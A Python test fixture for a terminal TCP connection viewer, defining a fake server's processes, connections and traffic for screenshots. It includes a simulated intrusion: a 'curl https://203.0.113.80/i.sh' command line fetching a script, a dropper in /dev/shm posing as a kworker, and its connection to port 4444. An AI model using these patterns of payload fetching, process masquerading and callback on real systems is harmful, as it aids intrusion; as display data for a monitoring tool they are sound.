"""A fixed machine, as the screenshots show it. Addresses are from RFC 5737 and RFC 3849, where they are public."""

from __future__ import annotations

from typing import NamedTuple

from tcpview_tui.model.connection import Connection, Key, State
from tcpview_tui.model.process import Process
from tcpview_tui.model.traffic import Counters, Measure
from tests.fakes import EPOCH, connection, listener

SSHD = Process(1021, 10.0, "sshd", "root", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]", "ssh.service")
SESSION = Process(20514, 500.0, "sshd", "root", "/usr/sbin/sshd", "sshd: alice [priv]", "session-12.scope")
NGINX = Process(812, 11.0, "nginx", "www-data", "/usr/sbin/nginx", "nginx: worker process", "nginx.service")
POSTGRES = Process(940, 12.0, "postgres", "postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres", "db.service")
APP = Process(2210, 40.0, "gunicorn", "shop", "/srv/shop/bin/python3", "gunicorn: worker [shop.wsgi]", "shop.service")
REDIS = Process(955, 13.0, "redis-server", "redis", "/usr/bin/redis-server", "redis-server", "docker:4f1c2d9ab037")
NTP = Process(611, 9.0, "chronyd", "_chrony", "/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", "chrony.service")
DROPPER = Process(31337, EPOCH + 231, "kworker/u8:2", "www-data", "/dev/shm/.x/upd", "[kworker/u8:2]", "nginx.service")
CURL = Process(31290, 878.0, "curl", "alice", "/usr/bin/curl", "curl https://203.0.113.80/i.sh", "session-12.scope")

E = State.ESTABLISHED
WEB = ("192.0.2.10", 443)


def _visitor(key: int, address: str, port: int, state: State = E) -> Connection:
    return connection(key, state, WEB, (address, port), (NGINX,))


BEFORE: tuple[Connection, ...] = (
    listener(1, 22, (SSHD,)),
    listener(2, 443, (NGINX,)),
    listener(3, 80, (NGINX,)),
    listener(4, 5432, (POSTGRES,), "127.0.0.1"),
    listener(5, 6379, (REDIS,), "127.0.0.1"),
    connection(6, State.NONE, ("127.0.0.1", 323), None, (NTP,), "udp"),
    connection(7, E, ("192.0.2.10", 22), ("198.51.100.23", 50114), (SESSION,)),
    _visitor(8, "203.0.113.5", 61022),
    _visitor(9, "203.0.113.77", 40818),
    connection(10, E, ("2001:db8::10", 443), ("2001:db8:77::a9:1", 52110), (NGINX,), family=6),
    connection(11, E, ("127.0.0.1", 48212), ("127.0.0.1", 5432), (APP,)),
    connection(12, E, ("127.0.0.1", 5432), ("127.0.0.1", 48212), (POSTGRES,)),
    connection(13, E, ("127.0.0.1", 40022), ("127.0.0.1", 6379), (APP,)),
    connection(14, E, ("192.0.2.10", 58110), ("203.0.113.80", 443), (CURL,)),
    *(connection(100 + n, State.TIME_WAIT, WEB, ("203.0.113.9", 41000 + n), ()) for n in range(12)),
)


class Told(NamedTuple):
    """Counters that need no decoding."""

    counters: Counters


TRAFFIC: dict[Key, tuple[int, int, int, float]] = {
    7: (41_200, 96_800, 0, 0.0312),
    10: (182_400, 9_120_000, 3, 0.0847),
    11: (2_340_000, 118_000, 0, 0.00006),
    12: (118_000, 2_340_000, 0, 0.00006),
    13: (640, 8_800, 0, 0.00004),
    21: (1_120, 61_400, 1, 0.1471),
    9: (4_180, 22_900, 14, 0.2203),
}
"""Bytes received and sent, retransmits and round-trip time in seconds, by connection."""


def carried(part: float, *keys: Key) -> dict[Key, Measure]:
    """Return the counters of `keys` when that part of the traffic has passed."""
    return {
        key: Told(
            Counters(
                int(received * part), int(sent * part), int(received * part) // 900 + 2, int(sent * part) // 900 + 3,
                again, delay, 0, 0,
            )
        )
        for key, (received, sent, again, delay) in TRAFFIC.items()
        if key in keys
    }  # fmt: skip


AFTER: tuple[Connection, ...] = (
    *(c for c in BEFORE if c.key not in (8, 9, 14)),
    _visitor(9, "203.0.113.77", 40818, State.CLOSE_WAIT),
    connection(20, State.SYN_SENT, ("192.0.2.10", 39944), ("203.0.113.66", 4444), (DROPPER,)),
    _visitor(21, "198.51.100.201", 33871),
)
